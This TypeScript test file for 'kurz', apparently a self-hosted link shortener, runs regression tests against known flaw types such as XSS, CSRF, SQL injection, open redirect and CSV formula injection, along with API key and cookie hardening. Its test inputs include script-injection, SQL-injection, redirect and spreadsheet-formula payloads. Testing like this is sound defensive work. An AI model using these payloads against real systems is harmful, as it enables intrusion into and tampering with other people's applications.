import { spawn } from 'node:child_process';
import { existsSync, readFileSync, statSync } from 'node:fs';
import { once } from 'node:events';
import { dirname, join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import test from 'ava';
import {
  ADMIN_PASSWORD,
  BROWSER_ACCEPT,
  BROWSER_UA,
  cookiesOf,
  csrfOf,
  freshDatabase,
  loginAs,
  runCli,
  startKurz,
  tempDir,
  waitFor,
} from '../helpers.ts';
import { escapeHtml, pageText, rawRequest } from '../support/hostile.ts';
import { browser } from './ui-session.ts';

/**
 * One regression test per kind of flaw published against other self-hosted shorteners, named after it. The
 * references are the reports found; the same kinds were reported against many more projects.
 */

type LinkBody = Record<string, unknown> & { code: string };

test('stored XSS through a link target or title (as in YOURLS issues #27 and #1079): every page shows them as text', async (t) => {
  const k = await startKurz(t);
  // YOURLS #27: a target ending in "><script>; #1079: a target breaking out of an attribute.
  const target = (await (await k.postJson('/api/v1/links', { url: 'https://example.com/"><script>alert(1)</script>' })).json()) as LinkBody;
  t.is(target['url'], 'https://example.com/%22%3E%3Cscript%3Ealert(1)%3C/script%3E', 'the target is stored percent-encoded');
  const attribute = await k.postJson('/api/v1/links', { url: 'http;//"onmousemove="alert(1)"' });
  t.is(attribute.status, 400, 'a target that is no absolute URL is refused');
  const payload = '"><script>alert(1)</script><img src=x onerror=alert(2)>';
  const titled = (await (
    await k.postJson('/api/v1/links', { url: 'https://example.com/t', title: payload, note: payload, alias: 'titled' })
  ).json()) as LinkBody;
  t.is(titled['title'], payload, 'the title is stored exactly');
  await rawRequest(k.base, 'GET', '/titled', { 'user-agent': BROWSER_UA, referer: 'http://x"onmouseover=alert(3)/' });
  await k.flushVisits();
  const b = await browser(k);
  for (const path of ['/', '/links', `/links/${target.code}`, '/links/titled', '/links/titled/stats', '/links?q=script']) {
    const res = await b.get(path);
    const html = await res.text();
    t.is(res.status, 200, path);
    t.notRegex(html, /<script>alert|<img src=x|onmouseover=alert\(3\)"/, `${path}: a payload is markup`);
    t.regex(res.headers.get('content-security-policy') ?? '', /script-src 'self';/, `${path}: no inline script would run anyway`);
  }
  t.true((await (await b.get('/links/titled')).text()).includes(escapeHtml(payload)), 'shown as text');
  t.true(pageText(await (await b.get('/links/titled/stats')).text()).includes('x"onmouseover=alert(3)'), 'the referrer shown as text');
  // A script: target could run on the page that shows it; it is never accepted, on creation or edit.
  t.is((await k.postJson('/api/v1/links', { url: 'javascript:alert(1)' })).status, 400);
  t.is((await k.request('PATCH', '/api/v1/links/titled', { url: 'JaVaScRiPt:alert(1)' })).status, 400);
});

test('CSRF on admin actions (as in YOURLS, CVE-2022-0088): no state-changing form acts without its token, and the API takes no form', async (t) => {
  const k = await startKurz(t);
  await k.postJson('/api/v1/links', { url: 'https://example.com/x', alias: 'x' });
  await k.kurz.services.access.createKey('ci');
  const b = await browser(k);
  const stranger = await browser(k, false);
  const forged = csrfOf(await (await stranger.get('/login')).text());
  const actions: Array<[string, string, Record<string, string>]> = [
    ['create a link', '/', { url: 'https://evil.example/', enabled: 'true' }],
    ['edit a link', '/links/x', { url: 'https://evil.example/', enabled: 'true' }],
    ['disable a link', '/links/x/state', { enabled: 'false' }],
    ['delete a link', '/links/x/delete', {}],
    ['bulk-create links', '/import', { urls: 'https://evil.example/1\nhttps://evil.example/2' }],
    ['create an API key', '/keys', { name: 'attacker' }],
    ['revoke an API key', '/keys/revoke', { name: 'ci' }],
    ['log out', '/logout', {}],
  ];
  const state = async () => ({
    link: await (await k.get('/api/v1/links/x')).text(),
    links: await k.linkCount(),
    keys: JSON.stringify(await k.kurz.services.access.listKeys()),
    loggedIn: (await b.get('/settings')).status,
  });
  const before = await state();
  for (const [action, path, fields] of actions) {
    for (const [how, token] of [
      ['without a token', undefined],
      ['with a token of another browser', forged],
      ['with a made-up token', 'A'.repeat(43)],
    ] as const) {
      const res = await b.post(path, token === undefined ? fields : { ...fields, _csrf: token });
      t.is(res.status, 403, `${action} ${how}`);
    }
  }
  t.deepEqual(await state(), before, 'nothing changed, and the session is still open');
  // A cross-site page can post a form or text, never JSON: the API refuses both, even with the session's cookie.
  for (const [type, body] of [
    ['text/plain', '{"url":"https://evil.example/"}'],
    ['application/x-www-form-urlencoded', 'url=https%3A%2F%2Fevil.example%2F'],
    ['multipart/form-data; boundary=b', '--b\r\ncontent-disposition: form-data; name="url"\r\n\r\nhttps://evil.example/\r\n--b--\r\n'],
  ]) {
    const res = await fetch(`${k.base}/api/v1/links`, { method: 'POST', headers: { cookie: b.cookie, 'content-type': type }, body });
    t.is(res.status, 415, type);
  }
  t.deepEqual(await state(), before);
  // The password is changed only by `kurz admin password`, on the machine: no form changes it.
  t.is((await b.post('/settings', {})).status, 405);
});

test('SQL injection through sort or search (as reported in the sort and search parameters of many PHP shorteners): an unknown sort is a 400, a search is literal', async (t) => {
  const k = await startKurz(t);
  const titles = ['100% sure', 'snake_case', "O'Brien", 'back\\slash', 'plain'];
  for (const [i, title] of titles.entries()) await k.postJson('/api/v1/links', { url: `https://example.com/s${i}`, title });
  const found = async (q: string) =>
    ((await (await k.get(`/api/v1/links?q=${encodeURIComponent(q)}`)).json()) as { links: LinkBody[] }).links.map((l) => l['title']);
  t.deepEqual(await found('%'), ['100% sure']);
  t.deepEqual(await found('_'), ['snake_case']);
  t.deepEqual(await found("'"), ["O'Brien"]);
  t.deepEqual(await found('\\'), ['back\\slash']);
  t.deepEqual(await found("' OR '1'='1"), []);
  t.deepEqual(await found('%" OR 1=1 --'), []);
  t.deepEqual(await found("x'); DROP TABLE links; --"), []);
  const b = await browser(k);
  for (const sort of ['created;DROP TABLE links', 'id', 'created DESC, (SELECT 1)', '(CASE WHEN 1=1 THEN created END)', 'visits--']) {
    const api = await k.get(`/api/v1/links?sort=${encodeURIComponent(sort)}`);
    t.is(api.status, 400, sort);
    t.like(await api.json(), { detail: 'sort must be one of created, visits', field: 'sort' });
    t.is((await b.get(`/links?sort=${encodeURIComponent(sort)}`)).status, 400, `page: ${sort}`);
  }
  t.is((await b.get(`/links?q=${encodeURIComponent("' OR 1=1 --")}`)).status, 200);
  t.is(await k.linkCount(), titles.length, 'every link is still there');
});

test('open redirect through the login return parameter (as reported against many login pages): after the login you land on kurz', async (t) => {
  const k = await startKurz(t);
  await k.login();
  const cases: Array<[string, string]> = [
    ['https://evil.example/', '/'],
    ['//evil.example/', '/'],
    ['/\\evil.example', '/'],
    ['\\\\evil.example', '/'],
    ['/.//evil.example', '/'],
    ['/%2e//evil.example', '/'],
    ['/a/..//evil.example', '/'],
    ['javascript:alert(document.cookie)', '/'],
    ['data:text/html,<script>alert(1)</script>', '/'],
    ['/\t/evil.example', '/'],
    ['///evil.example', '/'],
    ['https:evil.example', '/'],
    ['/links?q=a', '/links?q=a'],
  ];
  for (const [next, expected] of cases) {
    const page = await fetch(`${k.base}/login?next=${encodeURIComponent(next)}`, { headers: { accept: BROWSER_ACCEPT } });
    const html = await page.text();
    const jar = cookiesOf(page);
    const res = await fetch(`${k.base}/login`, {
      method: 'POST',
      headers: { cookie: jar, 'content-type': 'application/x-www-form-urlencoded', accept: BROWSER_ACCEPT },
      body: new URLSearchParams({ _csrf: csrfOf(html), user: 'admin', password: ADMIN_PASSWORD, next }),
      redirect: 'manual',
    });
    t.is(res.status, 303, next);
    t.is(res.headers.get('location'), expected, next);
    // Logged in already, the login page sends you on at once: the same rule.
    const again = await fetch(`${k.base}/login?next=${encodeURIComponent(next)}`, {
      headers: { cookie: cookiesOf(res, jar) },
      redirect: 'manual',
    });
    t.is(again.headers.get('location'), expected, `logged in: ${next}`);
  }
});

test('formula injection in exports (CSV injection): no cell of a links or visits export starts a formula, and it reads back exactly', async (t) => {
  const k = await startKurz(t);
  const formulas = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,2)', "'quoted"];
  for (const [i, text] of formulas.entries()) {
    await k.postJson('/api/v1/links', { url: `https://example.com/f${i}`, alias: `f${i}`, title: text, note: text });
  }
  await k.postJson('/api/v1/links', { url: 'https://example.com/minus', alias: '-12' });
  for (const referer of ['http://=HYPERLINK("x")/', 'http://-2+3/', 'http://@sum(1)/']) {
    await rawRequest(k.base, 'GET', '/f0', { 'user-agent': BROWSER_UA, referer });
  }
  await rawRequest(k.base, 'GET', '/f0', { 'user-agent': '=cmd|calc' });
  await k.flushVisits();
  for (const what of ['links', 'visits']) {
    const csv = await (await k.get(`/api/v1/export?what=${what}&format=csv`)).text();
    const rows = parseCsv(csv) as string[][];
    t.true(rows.length > 1, what);
    for (const cell of rows.flat()) t.notRegex(cell, /^[=+\-@\t\r]/, `${what}: ${cell}`);
  }
  const links = parseCsv(await (await k.get('/api/v1/export?what=links&format=csv')).text(), { columns: true }) as Array<
    Record<string, string>
  >;
  for (const [i, text] of formulas.entries()) {
    t.is(links.find((l) => l['code'] === `f${i}`)?.['title'], `'${text}`, 'a leading quote makes it text');
  }
  t.truthy(
    links.find((l) => l['code'] === "'-12"),
    'the code of alias -12 too',
  );
  const visits = parseCsv(await (await k.get('/api/v1/export?what=visits&format=csv')).text(), { columns: true }) as Array<
    Record<string, string>
  >;
  t.deepEqual(
    visits
      .map((v) => v['referrer'])
      .filter(Boolean)
      .sort(),
    ["'-2+3", '\'=hyperlink("x")', 'sum(1)'],
  );
  // `kurz export` writes the same cells, and `kurz import` reads them back exactly: test/cli/transfer.test.ts,
  // "CSV export is safe to open in a spreadsheet and still reads back exactly".
});

// --- Issue 23: API keys, authenticated answers, and the first start's password ---

type Problem = { status: number; code: string; detail: string };

test('issue 23: a key with links:read only gets 403 naming links:write on create; a key made without scopes gets links:read links:write stats:read; a session has every scope', async (t) => {
  const k = await startKurz(t);
  const { access } = k.kurz.services;
  const reader = (await access.createKey('reader', { scopes: ['links:read'] })).secret;
  const plain = await access.createKey('plain');
  t.deepEqual(plain.key.scopes, ['links:read', 'links:write', 'stats:read']);
  const call = (key: string, method: string, path: string, body?: unknown) =>
    k.request(method, path, body, { authorization: `Bearer ${key}` });

  const refused = await call(reader, 'POST', '/api/v1/links', { url: 'https://example.com/r' });
  t.is(refused.status, 403);
  t.is(refused.headers.get('content-type'), 'application/problem+json');
  const problem = (await refused.json()) as Problem;
  t.is(problem.code, 'forbidden');
  t.regex(problem.detail, /lacks the scope links:write/);
  t.is(await k.linkCount(), 0, 'nothing was created');
  t.is((await call(reader, 'GET', '/api/v1/links')).status, 200);
  t.regex(((await (await call(reader, 'GET', '/api/v1/stats')).json()) as Problem).detail, /lacks the scope stats:read/);

  t.is((await call(plain.secret, 'POST', '/api/v1/links', { url: 'https://example.com/p', alias: 'p' })).status, 201);
  t.is((await call(plain.secret, 'GET', '/api/v1/links/p/stats')).status, 200);
  const exported = await call(plain.secret, 'GET', '/api/v1/export?what=links');
  t.is(exported.status, 403, 'the default scopes do not take a copy of everything');
  t.regex(((await exported.json()) as Problem).detail, /lacks the scope export/);
  t.is((await call(plain.secret, 'DELETE', '/api/v1/links/p')).status, 204);

  const cookie = await k.login();
  t.is((await fetch(`${k.base}/api/v1/export?what=links`, { headers: { cookie } })).status, 200, 'a session has every scope');
  const admin = (await access.createKey('all', { scopes: ['admin'] })).secret;
  t.is((await call(admin, 'GET', '/api/v1/export?what=links')).status, 200, 'admin grants every scope');
});

test('issue 23: an expired key is refused like an unknown one, with a 401 that says it expired', async (t) => {
  const k = await startKurz(t);
  const { secret } = await k.kurz.services.access.createKey('for a day', { expiresIn: 86_400_000 });
  const list = () => k.get('/api/v1/links', { authorization: `Bearer ${secret}` });
  t.is((await list()).status, 200);
  k.clock.advance(86_400_000 - 1);
  t.is((await list()).status, 200, 'alive until the end');
  k.clock.advance(1);
  const res = await list();
  t.is(res.status, 401);
  t.regex(((await res.json()) as Problem).detail, /^the API key "for a day" expired at 2026-01-16T12:00:00\.000Z/);
  t.is(res.headers.get('www-authenticate'), 'Bearer realm="kurz", error="invalid_token"');
});

test("issue 23: a key's last use is recorded with the client's address and shown on the keys page", async (t) => {
  const k = await startKurz(t, { trustedProxies: '127.0.0.1' });
  const { secret } = await k.kurz.services.access.createKey('ci');
  const res = await k.get('/api/v1/links', { authorization: `Bearer ${secret}`, 'x-forwarded-for': '203.0.113.9' });
  t.is(res.status, 200);
  const key = (await k.kurz.services.access.listKeys()).find((listed) => listed.name === 'ci');
  t.is(key?.lastUsedAt?.getTime(), k.clock.now());
  t.is(key?.lastUsedFrom, '203.0.113.9');
  const html = await (await browser(k)).page('/keys');
  t.regex(html.html, /<td data-label="Last used"><span>[^<]+ from <code>203\.0\.113\.9<\/code><\/span><\/td>/);
  t.regex(html.html, /<td data-label="Scopes"><span>links:read links:write stats:read<\/span><\/td>/);
});

test('issue 23: the API export never contains a password hash; `kurz export` on the server does (a backup)', async (t) => {
  const k = await startKurz(t);
  t.is((await k.postJson('/api/v1/links', { url: 'https://example.com/secret', alias: 'locked', password: 'open sesame' })).status, 201);
  for (const format of ['csv', 'ndjson']) {
    const body = await (await k.get(`/api/v1/export?what=links&format=${format}`)).text();
    t.false(body.includes('passwordHash'), format);
    t.false(body.includes('scrypt$'), format);
  }
  const row = JSON.parse(await (await k.get('/api/v1/export?what=links&format=ndjson')).text()) as Record<string, unknown>;
  t.is(row['hasPassword'], true, 'it says the link has a password');
  const backup = await runCli(['export', '--format', 'ndjson'], k.database.env);
  t.is(backup.code, 0, backup.stderr);
  t.regex(JSON.parse(backup.stdout)['passwordHash'] as string, /^scrypt\$/);
});

test('issue 23: every 401 about credentials carries WWW-Authenticate: Bearer, with error="invalid_token" for a key that is no good', async (t) => {
  const k = await startKurz(t);
  const none = await fetch(`${k.base}/api/v1/links`);
  t.is(none.status, 401);
  t.is(none.headers.get('www-authenticate'), 'Bearer realm="kurz"');
  const wrong = await fetch(`${k.base}/api/v1/links`, { headers: { authorization: 'Bearer kurz_nope' } });
  t.is(wrong.status, 401);
  t.is(wrong.headers.get('www-authenticate'), 'Bearer realm="kurz", error="invalid_token"');
  const malformed = await fetch(`${k.base}/api/v1/links`, { headers: { authorization: 'Basic YWRtaW46eA==' } });
  t.is(malformed.headers.get('www-authenticate'), 'Bearer realm="kurz", error="invalid_request"');
  const form = await fetch(`${k.base}/links/x/delete`, { method: 'POST' });
  t.is(form.status, 401);
  t.is(form.headers.get('www-authenticate'), 'Bearer realm="kurz"');
});

test('issue 23: every answer to a key or a session is Cache-Control: no-store, pages and JSON', async (t) => {
  const k = await startKurz(t);
  t.is((await k.postJson('/api/v1/links', { url: 'https://example.com/n', alias: 'n' })).status, 201);
  for (const path of ['/api/v1/links', '/api/v1/links/n', '/api/v1/links/n/stats', '/api/v1/stats', '/api/v1/tags', '/api/v1/links/n/qr']) {
    const res = await k.get(path);
    t.is(res.status, 200, path);
    t.is(res.headers.get('cache-control'), 'no-store', path);
  }
  t.is((await k.get('/api/v1/links/none')).headers.get('cache-control'), 'no-store', 'a 404 too');
  const b = await browser(k);
  for (const path of ['/', '/links', '/links/n', '/links/n/stats', '/keys', '/settings', '/import']) {
    const res = await b.get(path);
    t.is(res.status, 200, path);
    t.is(res.headers.get('cache-control'), 'no-store', path);
  }
});

test('issue 23: with an https public URL every answer carries Strict-Transport-Security and the cookies are __Host- ones; on http neither', async (t) => {
  for (const [publicUrl, https] of [
    ['https://kurz.test', true],
    ['http://kurz.test', false],
  ] as const) {
    const k = await startKurz(t, { publicUrl });
    t.is((await k.postJson('/api/v1/links', { url: 'https://example.com/h', alias: 'h' })).status, 201);
    const redirect = await rawRequest(k.base, 'GET', '/h', { 'user-agent': BROWSER_UA });
    t.is(redirect.status, 302);
    for (const res of [
      { path: '/h', hsts: redirect.headers['strict-transport-security'] },
      ...(await Promise.all(
        ['/login', '/api/v1/links', '/nothing/here', '/healthz'].map(async (path) => ({
          path,
          hsts: (await fetch(k.base + path, { headers: { accept: BROWSER_ACCEPT } })).headers.get('strict-transport-security') ?? undefined,
        })),
      )),
    ])
      t.is(res.hsts, https ? 'max-age=31536000' : undefined, `${publicUrl}${res.path}`);
    const page = await fetch(`${k.base}/login`, { headers: { accept: BROWSER_ACCEPT } });
    const form = page.headers.getSetCookie();
    t.true(form.length > 0);
    const login = await fetch(`${k.base}/login`, {
      method: 'POST',
      headers: { cookie: cookiesOf(page), 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ _csrf: csrfOf(await page.text()), user: 'admin', password: 'wrong password', next: '/' }),
      redirect: 'manual',
    });
    t.is(login.status, 401);
    await k.kurz.services.access.setPassword(ADMIN_PASSWORD);
    const cookies = [...form, ...(await sessionCookies(k.base))];
    t.true(cookies.some((c) => /^(__Host-)?kurz_session=/.test(c)));
    for (const cookie of cookies) {
      if (https) {
        t.regex(cookie, /^__Host-kurz_\w+(\.sig)?=/, cookie);
        t.regex(cookie, /; path=\/(;|$)/i, cookie);
        t.regex(cookie, /; secure/i, cookie);
        t.notRegex(cookie, /; domain=/i, cookie);
      } else {
        t.regex(cookie, /^kurz_\w+(\.sig)?=/, cookie);
        t.notRegex(cookie, /; secure/i, cookie);
      }
    }
    const jar = await loginAs(k.base, 'admin', ADMIN_PASSWORD);
    t.is((await fetch(`${k.base}/links`, { headers: { cookie: jar, accept: BROWSER_ACCEPT } })).status, 200, 'the session works');
  }
});

/** The Set-Cookie lines of a successful login as the admin. */
async function sessionCookies(base: string): Promise<string[]> {
  const page = await fetch(`${base}/login`, { headers: { accept: BROWSER_ACCEPT } });
  const res = await fetch(`${base}/login`, {
    method: 'POST',
    headers: { cookie: cookiesOf(page), 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ _csrf: csrfOf(await page.text()), user: 'admin', password: ADMIN_PASSWORD, next: '/' }),
    redirect: 'manual',
  });
  return res.headers.getSetCookie();
}

const MAIN = join(import.meta.dirname, '..', '..', 'src', 'main.ts');

test("issue 23: a first start whose stderr is no terminal writes the password to a 0600 file in a 0700 folder, whatever the umask, and logs only the file's path; the first login asks for a new password, which deletes the file", async (t) => {
  const database = await freshDatabase(t);
  // A folder kurz makes itself, under umask 000: left alone it would be open to everyone.
  const db = join(tempDir(t), 'data', 'kurz.db');
  const env = { PATH: process.env['PATH'] ?? '', KURZ_PORT: '0', KURZ_LOG_FORMAT: 'text', KURZ_DB: db, ...database.env };
  if (database.file !== '') env.KURZ_DB = db;
  const child = spawn('/bin/sh', ['-c', 'umask 000 && exec "$@"', 'sh', process.execPath, MAIN, 'serve'], {
    env,
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  t.teardown(() => {
    if (child.exitCode === null) child.kill('SIGKILL');
  });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (d: Buffer) => (stdout += d));
  child.stderr.on('data', (d: Buffer) => (stderr += d));
  await waitFor(() => /open http:\/\/127\.0\.0\.1:\d+\//.test(stdout) && /generated password/.test(stderr));
  const base = /open (http:\/\/127\.0\.0\.1:\d+)\//.exec(stdout)?.[1] ?? '';
  const file = join(dirname(db), 'kurz-admin-password');
  t.true(stderr.includes(file), 'the log names the file');
  const password = readFileSync(file, 'utf8').trim();
  t.regex(password, /^[\w-]{20}$/);
  t.false(stderr.includes(password), 'the password is not in the log');
  t.false(stdout.includes(password));
  t.is(statSync(file).mode & 0o777, 0o600);
  t.is(statSync(dirname(file)).mode & 0o777, 0o700);

  const cookie = await loginAs(base, 'admin', password);
  for (const path of ['/', '/links', '/keys', '/settings']) {
    const res = await fetch(base + path, { headers: { cookie, accept: BROWSER_ACCEPT }, redirect: 'manual' });
    t.is(res.status, 303, path);
    t.is(res.headers.get('location'), '/account/password', path);
  }
  const api = await fetch(`${base}/api/v1/links`, { headers: { cookie } });
  t.is(api.status, 403, 'nor the API with that session');
  t.regex(((await api.json()) as Problem).detail, /still the generated one/);
  const form = await fetch(`${base}/account/password`, { headers: { cookie, accept: BROWSER_ACCEPT } });
  t.is(form.status, 200);
  const csrf = csrfOf(await form.text());
  const change = (fields: Record<string, string>) =>
    fetch(`${base}/account/password`, {
      method: 'POST',
      headers: { cookie, accept: BROWSER_ACCEPT, 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ _csrf: csrf, ...fields }),
      redirect: 'manual',
    });
  const differ = await change({ password: 'my own password', repeat: 'my own passw0rd' });
  t.is(differ.status, 400);
  t.regex(await differ.text(), /the two passwords differ/);
  t.true(existsSync(file), 'kept until a password is set');
  const short = await change({ password: 'short', repeat: 'short' });
  t.is(short.status, 400);
  t.regex(await short.text(), /at least 8 characters/);
  const changed = await change({ password: 'my own password', repeat: 'my own password' });
  t.is(changed.status, 303);
  t.is(changed.headers.get('location'), '/login');
  t.false(existsSync(file), 'the file is gone');

  await t.throwsAsync(loginAs(base, 'admin', password), { message: /login failed: 401/ });
  const own = await loginAs(base, 'admin', 'my own password');
  const home = await fetch(base, { headers: { cookie: own, accept: BROWSER_ACCEPT }, redirect: 'manual' });
  t.is(home.status, 200, 'no longer sent to change it');
  child.kill('SIGTERM');
  await once(child, 'exit');
});
